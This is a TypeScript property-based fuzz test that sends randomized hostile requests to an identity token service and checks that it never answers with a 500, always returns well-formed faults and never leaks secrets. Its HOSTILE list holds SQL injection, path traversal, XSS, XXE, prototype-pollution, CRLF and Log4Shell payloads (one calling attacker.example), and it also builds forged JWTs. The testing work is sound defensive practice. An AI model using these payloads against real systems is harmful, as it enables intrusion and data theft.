/**
 * Hostile input: a seeded fast-check property throws random methods, paths, queries, headers,
 * bodies and token values at the real worker; every answer must be a v2.0 fault or a 204, never a 500.
 * @module
 */

import fc from "fast-check";
import { base64url } from "jose";
import { expect, it } from "vitest";
import { setConsoleQuiet } from "../support/capture-console";
import { CONTRACT_ROLES, FAULT_ROOT_KEYS } from "../support/contract";
import { rememberSecret } from "../support/leak-watch";
import { issueToken, send } from "../support/watched-call";
import { watchKv } from "../support/watched-kv";
import { env } from "./helpers";
import { AUDIENCE, hmacKey, ISSUER, mint, now, SECRET } from "./jwt-fixtures";

// Thousands of request-log lines: recorded and scanned for tokens, not printed.
setConsoleQuiet(true);

/** Fixed, so that a failure reproduces: fast-check prints the seed and path of a counterexample. */
const SEED = 20260426;
/** Cases per run under the registry authority, and under the jwt one; CI runs the same numbers. */
const RUNS = 3000;
const JWT_RUNS = 1000;

const HOSTILE = [
  "' OR '1'='1",
  "1; DROP TABLE tokens; --",
  "admin'--",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/",
  "..\\..\\windows\\win.ini",
  "%00",
  "%",
  "%ZZ",
  "%%32%65",
  "<script>alert(1)</script>",
  '{"__proto__":{"isAdmin":true}}',
  '{"tokenId":"x","roles":["identity:admin"]}',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, not a template.
  "${jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "[]",
  "{}",
  "tokens",
  "v2.0",
  ".",
  "..",
  "/",
  "//",
  "?",
  "#",
  "&tokenId=",
  "tokenId=a&tokenId=b",
  "\r\nX-Injected: yes",
  "\u0000",
  "\u0007\u001b[31m",
  "\t",
  "\u007f",
  "\u0085",
  "\u00a0",
  "\u200b",
  "\u202e",
  "\ufeff",
  "\ud800",
  "tøkén",
  "😀",
  "🏳️‍🌈",
  "ｔｏｋｅｎ",
];

/** The roles a real caller or target may hold, including ones outside the table. */
const ROLES = [...CONTRACT_ROLES, "IDENTITY:ADMIN", "none"];

type Real = { real: { role: string; domain: "acme" | "globex"; expired: boolean } };
type Value = string | Real;

/**
 * JWT-shaped strings: the storage digest of a JWS is taken from its unverified `iss` and `jti`
 * (see `revocationSubject`), so its payload is parsed for every request, whatever the authority.
 */
const jwtShaped = fc
  .tuple(
    fc.oneof(
      fc.constantFrom('{"alg":"none"}', '{"alg":"HS256","typ":"JWT"}', "not json", ""),
      fc.json({ maxDepth: 2 }),
    ),
    fc.oneof(
      fc
        .record({
          iss: fc.oneof(fc.string(), fc.integer(), fc.constant(null)),
          jti: fc.oneof(fc.string(), fc.array(fc.string())),
        })
        .map((claims) => JSON.stringify(claims)),
      fc.constantFrom(
        "[]",
        "null",
        '"jti"',
        `${"[".repeat(3000)}${"]".repeat(3000)}`,
        '{"iss":"a","jti":"b","__proto__":{"x":1}}',
      ),
      fc.json({ maxDepth: 3 }),
    ),
    fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{0,43}$/), fc.constantFrom("", "=", "sig.extra")),
    fc.boolean(),
  )
  .map(([header, payload, signature, encode]) =>
    encode
      ? `${base64url.encode(header)}.${base64url.encode(payload)}.${signature}`
      : `${header}.${payload}.${signature}`,
  );

const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE), weight: 4 },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }), weight: 1 },
  { arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{16,64}$/), weight: 2 },
  // At, just under and just over the 8 KiB limit, and far beyond it.
  { arbitrary: fc.constantFrom(8191, 8192, 8193, 65_536).map((n) => "t".repeat(n)), weight: 1 },
  { arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map(([a, b]) => a + b), weight: 1 },
  { arbitrary: jwtShaped, weight: 2 },
);

/** A token value: hostile, or a marker for a real registered token made fresh for the case. */
const tokenValue: fc.Arbitrary<Value> = fc.oneof(
  { arbitrary: hostileString, weight: 2 },
  {
    arbitrary: fc
      .record({ role: fc.constantFrom(...ROLES), domain: fc.constantFrom("acme", "globex"), expired: fc.boolean() })
      .map((real) => ({ real })),
    weight: 2,
  },
);

const segment = fc.record({ value: tokenValue, encode: fc.boolean() });

const request = fc.record({
  method: fc.oneof(
    { arbitrary: fc.constant("DELETE"), weight: 6 },
    { arbitrary: fc.constantFrom("GET", "HEAD", "POST", "PUT", "PATCH", "OPTIONS", "delete", "PROPFIND"), weight: 3 },
    // workerd knows a fixed set of methods and refuses to build a request with any other.
    {
      arbitrary: fc.constantFrom(
        "PROPPATCH",
        "MKCOL",
        "COPY",
        "MOVE",
        "LOCK",
        "UNLOCK",
        "SEARCH",
        "REPORT",
        "PURGE",
        "ACL",
        "MERGE",
        "NOTIFY",
        "SUBSCRIBE",
      ),
      weight: 1,
    },
  ),
  path: fc.oneof(
    { arbitrary: fc.constant({ kind: "collection" as const }), weight: 3 },
    { arbitrary: segment.map((s) => ({ kind: "token" as const, ...s })), weight: 4 },
    { arbitrary: fc.tuple(segment, segment).map(([a, b]) => ({ kind: "deep" as const, a, b })), weight: 1 },
    {
      arbitrary: fc
        .constantFrom(
          "/v2.0//tokens",
          "/V2.0/tokens",
          "/v2.0/tokens/",
          "//v2.0/tokens",
          "/v2.0/./tokens",
          "/v2.0/tokens/..",
          "/v3/auth/tokens",
          "/",
          "/v2.0/tokens%2Fx",
          "/v2.0/tokens;x",
        )
        .map((raw) => ({ kind: "raw" as const, raw })),
      weight: 1,
    },
    { arbitrary: hostileString.map((raw) => ({ kind: "raw" as const, raw: `/${raw}` })), weight: 1 },
  ),
  query: fc.array(
    fc.record({
      name: fc.constantFrom(
        "tokenId",
        "tokenId",
        "tokenid",
        "TokenId",
        "tokenId[]",
        "X-Auth-Token",
        "belongsTo",
        "__proto__",
      ),
      value: tokenValue,
      encode: fc.boolean(),
    }),
    { maxLength: 3 },
  ),
  caller: fc.option(tokenValue, { nil: undefined, freq: 4 }),
  headers: fc.array(
    fc.record({
      name: fc.oneof(
        fc.constantFrom(
          "X-Auth-Token",
          "x-auth-token",
          "Content-Type",
          "Accept",
          "CF-Connecting-IP",
          "X-Forwarded-For",
          "Origin",
          "Cookie",
          "Authorization",
          "X-HTTP-Method-Override",
          "X-Request-Id",
          "Access-Control-Request-Method",
          "X-Roles",
        ),
        fc.stringMatching(/^[A-Za-z][A-Za-z0-9-]{0,20}$/),
      ),
      value: tokenValue,
    }),
    { maxLength: 5 },
  ),
  body: fc.option(fc.oneof(fc.constant(""), hostileString), { nil: undefined, freq: 5 }),
  cors: fc.boolean(),
  rawBytes: fc.integer({ min: 0, max: 99 }).map((n) => n === 37),
  // One case in ten runs under the tight limiter (3 per 10 s), so that 413 is among the answers.
  tight: fc.integer({ min: 0, max: 9 }).map((n) => n === 3),
});

type CaseOf<A> = A extends fc.Arbitrary<infer T> ? T : never;

/** A real token for a marker (registered now), or the hostile string itself. */
/** The authorities the property runs under: the local registry, and HS256 JWTs. */
type Authority = "registry" | "jwt";
const JWT_SETTINGS: Partial<Env> = {
  TOKEN_AUTHORITY: "jwt",
  JWT_ISSUER: ISSUER,
  JWT_AUDIENCE: AUDIENCE,
  JWT_SECRET: SECRET,
  // The minted tokens carry v2.0 role names (and some that are none), counted as written.
  JWT_ROLE_PASSTHROUGH: "true",
};

/** A real token for a marker (registered or signed now), or the hostile string itself. */
async function resolve(value: Value, authority: Authority): Promise<string> {
  if (typeof value === "string") return value;
  const { role, domain, expired } = value.real;
  if (authority === "jwt") {
    return mint(hmacKey(), { claims: { domain_id: domain, roles: [role], exp: now() + (expired ? -3600 : 3600) } });
  }
  const issued = await issueToken({ role, domain, ttl: expired ? -1 : 3600 });
  return issued.token;
}

// Header values lose the characters that cannot be in a header at all (no client can send them).
// The runtime sends non-ASCII as UTF-8 but logs a warning for each such header, so only one case
// in a hundred (`rawBytes`) sends them raw; the rest carry the same bytes percent-encoded.
const asHeaderValue = (text: string, rawBytes: boolean): string =>
  (rawBytes ? text : text.replace(/[^\x00-\x7f]+/g, (run) => percentEncode(run))).replace(/[\0\r\n]/g, "");

/** encodeURIComponent, except that it encodes what it would throw on (lone surrogates, as U+FFFD). */
const percentEncode = (text: string): string =>
  [...new TextEncoder().encode(text)]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");

async function build(
  input: CaseOf<typeof request>,
  authority: Authority,
): Promise<{ path: string; init: RequestInit; secrets: string[] }> {
  const secrets: string[] = [];
  const use = async (value: Value) => {
    const text = await resolve(value, authority);
    secrets.push(text);
    return text;
  };
  const part = async ({ value, encode }: { value: Value; encode: boolean }) => {
    const text = await use(value);
    return encode ? percentEncode(text) : text;
  };

  let path: string;
  switch (input.path.kind) {
    case "collection":
      path = "/v2.0/tokens";
      break;
    case "token":
      path = `/v2.0/tokens/${await part(input.path)}`;
      break;
    case "deep":
      path = `/v2.0/tokens/${await part(input.path.a)}/${await part(input.path.b)}`;
      break;
    case "raw":
      path = input.path.raw;
  }
  const query: string[] = [];
  for (const item of input.query) query.push(`${item.name}=${await part(item)}`);
  if (query.length) path += `?${query.join("&")}`;

  const headers = new Headers();
  if (input.caller !== undefined)
    headers.append("X-Auth-Token", asHeaderValue(await use(input.caller), input.rawBytes));
  for (const { name, value } of input.headers) headers.append(name, asHeaderValue(await use(value), input.rawBytes));

  // Tight cases come from one client address, as a flood from one client would.
  if (input.tight && !headers.has("CF-Connecting-IP")) headers.set("CF-Connecting-IP", "198.51.100.7");
  const init: RequestInit = { method: input.method, headers };
  if (input.body !== undefined && !["GET", "HEAD"].includes(input.method.toUpperCase())) init.body = input.body;
  return { path, init, secrets };
}

/** Runs the property under one authority; returns how often each status answered. */
async function hostileRequests(authority: Authority, runs: number): Promise<Map<number, number>> {
  const outcomes = new Map<number, number>();
  let unsendable = 0;
  await fc.assert(
    fc.asyncProperty(request, async (input) => {
      const { path, init, secrets } = await build(input, authority);
      for (const secret of secrets) rememberSecret(secret);
      const revocations = watchKv(env.REVOCATIONS);
      const tokens = watchKv(env.TOKENS);
      const bindings = {
        REVOCATIONS: revocations.kv,
        TOKENS: tokens.kv,
        ...(authority === "jwt" ? JWT_SETTINGS : {}),
        ...(input.cors ? { CORS_ALLOW_ORIGINS: "https://console.example.com" } : {}),
        ...(input.tight ? { RATE_LIMITER: env.TIGHT_RATE_LIMITER, RATE_LIMIT_PERIOD: "10" } : {}),
      };
      try {
        new Request(`https://identity.example.test${path}`, init);
      } catch {
        // The platform refuses to build it (a forbidden method, say): no client can send it either.
        unsendable++;
        return;
      }
      const response = await send(path, { ...init, bindings });
      outcomes.set(response.status, (outcomes.get(response.status) ?? 0) + 1);
      const text = await response.text();
      const method = input.method.toUpperCase();

      expect(response.status).not.toBe(500);
      expect(tokens.counts.writes).toBe(0);
      if (response.status === 204) {
        expect(text).toBe("");
        // A 204 to a DELETE is a revocation: exactly one write. A CORS preflight writes nothing.
        expect(revocations.counts.writes).toBe(method === "DELETE" ? 1 : 0);
        if (method !== "DELETE") expect(method).toBe("OPTIONS");
        return;
      }
      expect(revocations.counts.writes).toBe(0);
      expect(Object.keys(FAULT_ROOT_KEYS)).toContain(String(response.status));
      expect(response.headers.get("Content-Type")).toMatch(/^application\/json\b/);
      if (method === "HEAD") return; // the runtime strips a HEAD answer's body
      const body = JSON.parse(text) as Record<string, { code?: unknown; message?: unknown }>;
      expect(Object.keys(body)).toEqual([FAULT_ROOT_KEYS[response.status]]);
      const fault = Object.values(body)[0];
      expect(fault?.code).toBe(response.status);
      expect(typeof fault?.message).toBe("string");
      for (const secret of secrets) if (secret.length >= 16) expect(text.includes(secret)).toBe(false);
    }),
    { seed: SEED, numRuns: runs, endOnFailure: true },
  );
  expect(unsendable).toBeLessThan(runs / 20);
  // The figures docs/reliability.md quotes; console.error because quiet mode passes only errors through.
  console.error(
    JSON.stringify({ fuzz: { authority, runs, seed: SEED, unsendable, outcomes: Object.fromEntries(outcomes) } }),
  );
  return outcomes;
}

it(`${RUNS} hostile requests (registry): never a 500, always a v2.0 fault or a 204, no write unless 204`, {
  timeout: 600_000,
}, async () => {
  const outcomes = await hostileRequests("registry", RUNS);
  // The generator must reach deep into the handler, not stop at the router: each step answered.
  for (const status of [204, 400, 401, 403, 404, 405, 413]) expect(outcomes.get(status) ?? 0).toBeGreaterThan(0);
});

it(`${JWT_RUNS} hostile requests (jwt): the same, with signed tokens and JWT-shaped forgeries`, {
  timeout: 600_000,
}, async () => {
  const outcomes = await hostileRequests("jwt", JWT_RUNS);
  for (const status of [204, 400, 401, 404, 405]) expect(outcomes.get(status) ?? 0).toBeGreaterThan(0);
});
